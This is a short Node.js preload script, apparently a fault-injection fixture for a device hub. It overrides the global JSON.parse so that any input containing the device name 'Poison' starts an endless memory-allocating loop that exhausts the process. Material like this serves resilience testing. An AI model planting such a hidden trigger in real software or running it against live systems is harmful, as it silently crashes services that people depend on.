// Preloaded into the hub: a fault that the name of a device sets off, and that takes all memory there is.
const { isMainThread } = require('node:worker_threads');

if (isMainThread) {
  const parse = JSON.parse;
  JSON.parse = (text, ...rest) => {
    if (typeof text === 'string' && text.includes('"friendly_name":"Poison"')) {
      for (const held = []; ;) held.push(Array.from({ length: 10_000 }, (_, index) => ({ index })));
    }
    return parse(text, ...rest);
  };
}
